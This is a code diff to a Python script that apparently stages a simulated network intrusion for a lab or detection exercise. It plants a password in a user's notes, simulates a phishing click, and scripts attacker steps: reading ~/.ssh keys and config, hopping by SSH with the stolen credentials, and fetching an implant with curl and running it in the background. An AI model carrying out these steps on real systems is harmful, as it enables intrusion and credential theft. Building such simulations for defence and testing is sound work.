@@ -53,7 +53,7 @@ leave() {
 def plant(agent):
     """What the intruder will find: a password in the victim's notes, a key on the jump host."""
     if agent.host.name == "ws14":
-        notes = pathlib.Path("/home/rokafor/notes.txt")
+        notes = pathlib.Path("/home/%s/notes.txt" % agent.host.user)
         notes.write_text("jump host 10.50.0.20, campaign data 10.40.0.10\nlogin ops, password %s\n" % agent.agency.people["ops"])
         begin = agent.start + agent.parameters["baseline"]
         threading.Timer(begin - time.time(), click, (agent,)).start()
@@ -64,8 +64,8 @@ def plant(agent):
 
 def click(agent):
     """What the phished person does on ws14; the agent of that desk runs it."""
-    agent.tool("setpriv", "--reuid=rokafor", "--regid=100", "--clear-groups", "bash", "-c", CLICK,
-               HOME="/home/rokafor", HOSTNAME=agent.host.name, CURL_CA_BUNDLE="/mnt/ca.pem")
+    agent.tool("setpriv", "--reuid=" + agent.host.user, "--regid=100", "--clear-groups", "bash", "-c", CLICK,
+               HOME="/home/" + agent.host.user, HOSTNAME=agent.host.name, CURL_CA_BUNDLE="/mnt/ca.pem")
 
 
 def operate(agent, book):
@@ -79,8 +79,9 @@ def operate(agent, book):
         book.say("%s: %s" % (implant, script[:200]), output)
         return output or ""
 
+    book.at(0)
     control.wait("ws14", 60)
-    book.compromised("ws14", "phished: the user ran a downloaded script")
+    book.compromised("ws14", "phished: the user ran a downloaded script", book.begin)
 
     book.at(25)
     if secret not in work("ws14", "id; ip -br addr; ls -la ~; cat ~/notes.txt"):
@@ -91,23 +92,26 @@ def operate(agent, book):
              "-oG /mnt/truth/inside-%d.gnmap %s" % (prefix, ports.replace(",", "+"), ports, n, prefix))
 
     book.at(100)
-    if "PRIVATE KEY" not in work("ws14", hop(JUMP, "ops", "id; hostname; cat ~/.ssh/id_ed25519; cat ~/.ssh/config", secret)):
+    since = time.time()
+    if "ED25519" not in work("ws14", hop(JUMP, "ops", "id; hostname; ls -la ~/.ssh; cat ~/.ssh/config; ssh-keygen -lf ~/.ssh/id_ed25519", secret)):
         raise RuntimeError("no key on the jump host")
-    book.compromised("jump", "SSH from ws14 with a password from the user's notes")
+    book.compromised("jump", "SSH from ws14 with a password from the user's notes", since)
 
     book.at(130)
+    since = time.time()
     look = hop(SOURCE, "ops", "id; ls -l /srv/share/campaign", key="~/.ssh/id_ed25519", what="ssh to the data server")
-    if "campaign" not in work("ws14", hop(JUMP, "ops", look, secret)):
+    if documents.LAUNCH[0][0] not in work("ws14", hop(JUMP, "ops", look, secret)):
         raise RuntimeError("no listing")
-    book.compromised("data-lo", "SSH from jump with the key found there")
+    book.compromised("data-lo", "SSH from jump with the key found there", since)
 
     book.at(160)
+    since = time.time()
     implant = ("cd /tmp; ip=$(rec 'look-up of {n}' udp 61053 10.50.0.53:53 dig +short -b '0.0.0.0#61053' {n} | tail -n 1)\n"
                "rec 'implant download' tcp - {a}:{p} curl -s --resolve {n}:{p}:$ip -o .u http://{n}:{p}/p\n"
                "setsid nohup bash .u ws03 >/dev/null 2>&1 </dev/null &\n").format(n=NAME, a=ADDRESS, p=PORT)
     work("ws14", hop(JUMP, "ops", hop(STAGE, "ops", implant, key="~/.ssh/id_ed25519"), secret))
     control.wait("ws03", 40)
-    book.compromised("ws03", "SSH from jump with the key found there")
+    book.compromised("ws03", "SSH from jump with the key found there", since)
 
     book.at(190)
     names = [name for name, _ in documents.LAUNCH]
